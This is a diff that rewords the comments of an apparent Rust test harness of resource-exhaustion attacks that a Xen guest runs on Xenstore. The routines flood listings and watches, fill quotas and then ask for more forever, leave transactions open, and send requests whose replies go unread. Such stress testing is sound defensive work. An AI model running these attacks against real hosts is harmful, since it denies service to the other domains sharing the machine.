@@ -18,9 +18,9 @@ use zerocopy::IntoBytes;
 
 type Result<T> = core::result::Result<T, StoreError>;
 
-/// Where all of this is: a domain's own ground.
+/// The directory of all these nodes, which every domain may write to.
 const HOME: &str = "data";
-/// Children of one node: nearly all that a domain may have.
+/// Children of one node, nearly as many as a domain may own.
 const CHILDREN: u32 = 990;
 /// Requests in flight.
 const DEPTH: usize = 16;
@@ -48,13 +48,13 @@ pub(super) async fn directories(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Lists them many times at once.
+/// Sends many requests at once that list the children.
 async fn list(transaction: &Transaction) -> Result<()> {
     let lists = (0..DEPTH).map(|_| transaction.request(XS_DIRECTORY, &[b"data\0"]));
     join_all(lists).await.into_iter().try_for_each(|list| list.map(drop))
 }
 
-/// What a quota refuses is no end of an attack.
+/// Turns a refusal by a quota into `None`, so that the attack goes on.
 fn calm<T>(answer: Result<T>) -> Result<Option<T>> {
     match answer {
         Ok(answer) => Ok(Some(answer)),
@@ -63,7 +63,7 @@ fn calm<T>(answer: Result<T>) -> Result<Option<T>> {
     }
 }
 
-/// Does `act` for all numbers below `count`, many at once.
+/// Runs `act` for all numbers below `count`, many at once.
 async fn all<F: Future<Output = Result<()>>>(count: usize, act: impl Fn(usize) -> F) -> Result<()> {
     for first in (0..count).step_by(DEPTH) {
         for answer in join_all((first..count.min(first + DEPTH)).map(&act)).await {
@@ -81,8 +81,8 @@ pub(super) async fn writes(store: Xenstore) -> Result<()> {
     }
 }
 
-/// What an honest driver domain does: it watches the state of its frontend, which is domain 2's, and takes each event at
-/// once.
+/// Does what an honest driver domain does: watches the state of its frontend, which is domain 2's, and takes each
+/// event at once.
 pub(super) async fn watched(store: Xenstore) -> Result<()> {
     let watch = store.watch("/local/domain/2/device/vbd/51712/state").await?;
     let mut events = 0u32;
@@ -96,7 +96,7 @@ pub(super) async fn watched(store: Xenstore) -> Result<()> {
     Err(StoreError::Broken)
 }
 
-/// A frontend that changes many nodes of long names below its state at once.
+/// Changes, as a frontend, many nodes with long names below its state node at once.
 pub(super) async fn floods(store: Xenstore) -> Result<()> {
     let own = store.read_str("domid").await?;
     let path = &format!("/local/domain/{own}/device/vbd/51712/state/{}", "n".repeat(2900));
@@ -112,7 +112,7 @@ pub(super) async fn floods(store: Xenstore) -> Result<()> {
     Ok(())
 }
 
-/// As many watches as there may be on a node that is then written.
+/// Sets the most watches on one node, then writes the node.
 pub(super) async fn watches(store: Xenstore) -> Result<()> {
     let mut watches = Vec::new();
     while let Some(watch) = calm(store.watch(HOME).await)? {
@@ -126,7 +126,7 @@ pub(super) async fn watches(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Commits of many nodes, of which every second meets what the first changed.
+/// Commits transactions of many nodes; every second transaction conflicts with the one before.
 pub(super) async fn transactions(store: Xenstore) -> Result<()> {
     loop {
         let pair = [store.begin().await?, store.begin().await?];
@@ -139,7 +139,7 @@ pub(super) async fn transactions(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Deep and broad subtrees made and removed.
+/// Makes and removes deep and broad subtrees.
 pub(super) async fn subtrees(store: Xenstore) -> Result<()> {
     let store = &store;
     let deep = "/a".repeat(50);
@@ -151,7 +151,7 @@ pub(super) async fn subtrees(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Everything that there may be of everything, then more of it for ever.
+/// Fills every quota, then asks for more for ever.
 pub(super) async fn quotas(store: Xenstore) -> Result<()> {
     let store = &store;
     let mut watches = Vec::new();
@@ -173,8 +173,8 @@ pub(super) async fn quotas(store: Xenstore) -> Result<()> {
     }
 }
 
-/// All that dom0 can be made to keep: nodes with many permissions, watches, transactions that change permissions, then events
-/// and long lists that are never taken.
+/// Makes dom0 keep as much as possible: nodes with many permissions, watches, transactions that change permissions,
+/// then events and long lists that this domain never reads.
 pub(super) async fn unheard(store: Xenstore) -> Result<()> {
     let store = &store;
     let own = store.read_str("domid").await?;
@@ -191,13 +191,13 @@ pub(super) async fn unheard(store: Xenstore) -> Result<()> {
             part.request(XS_SET_PERMS, &[path.as_bytes(), b"\0", perms.as_bytes()]).await.map(drop)
         })
         .await?;
-        // The transaction stays open, with no end that would be heard.
+        // The transaction stays open: the daemon gets no request that ends it.
         core::mem::forget(transaction);
     }
     let lists = (0..DEPTH).map(|_| store.request(XS_DIRECTORY, &[b"data\0"]));
     let write = store.write("attr/0", "");
     let (mut write, mut lists) = (pin!(write), pin!(join_all(lists)));
-    // The requests are sent, and nobody takes what comes.
+    // The requests are sent, and no code reads the answers.
     poll_fn(|context| {
         let _ = (write.as_mut().poll(context), lists.as_mut().poll(context));
         Poll::Ready(())
@@ -208,14 +208,15 @@ pub(super) async fn unheard(store: Xenstore) -> Result<()> {
     }
 }
 
-/// A path that is nearly as long as may be, and above everything else here: to compare two takes all of it.
+/// Makes a path of nearly the greatest length, the common parent of all nodes here: a comparison of two paths
+/// must compare all of it.
 async fn long(store: &Xenstore) -> Result<String> {
     let own = store.read_str("domid").await?;
     Ok(format!("/local/domain/{own}/{HOME}/{}", "p".repeat(2700)))
 }
 
-/// A transaction that has removed many subtrees, and is asked for deep paths beside them: some are made, and then a quota
-/// refuses one for ever.
+/// Removes many subtrees in a transaction, then makes deep paths beside them in the same transaction. At some point a
+/// quota refuses a path, and the attack asks for that path for ever.
 pub(super) async fn prefixes(store: Xenstore) -> Result<()> {
     let long = long(&store).await?;
     for n in 0..60 {
@@ -232,7 +233,8 @@ pub(super) async fn prefixes(store: Xenstore) -> Result<()> {
     Ok(())
 }
 
-/// A deep path made and removed, commits that remove many such subtrees, and as many watches, made and reset.
+/// Makes and removes a deep path, commits transactions that remove many such subtrees, and sets and resets
+/// the most watches.
 pub(super) async fn removals(store: Xenstore) -> Result<()> {
     let long = long(&store).await?;
     loop {
@@ -254,7 +256,7 @@ pub(super) async fn removals(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Commits of as many long names as there may be: made, and removed again.
+/// Commits transactions that make as many long names as possible, and others that remove them.
 pub(super) async fn long_commits(store: Xenstore) -> Result<()> {
     let path = &long(&store).await?;
     let name = &"n".repeat(250);
@@ -271,7 +273,7 @@ pub(super) async fn long_commits(store: Xenstore) -> Result<()> {
     }
 }
 
-/// Commits that change the permissions of many long names.
+/// Commits transactions that change the permissions of many long names.
 pub(super) async fn long_perms(store: Xenstore) -> Result<()> {
     let own = store.read_str("domid").await?;
     let path = &long(&store).await?;
@@ -298,7 +300,7 @@ pub(super) async fn long_perms(store: Xenstore) -> Result<()> {
     Ok(())
 }
 
-/// Requests whose replies are never taken.
+/// Sends requests and never reads the replies.
 pub(super) fn mute(info: StoreInfo) {
     let Ok(mut ring) = client(info.page) else { return };
     let path = b"name\0";
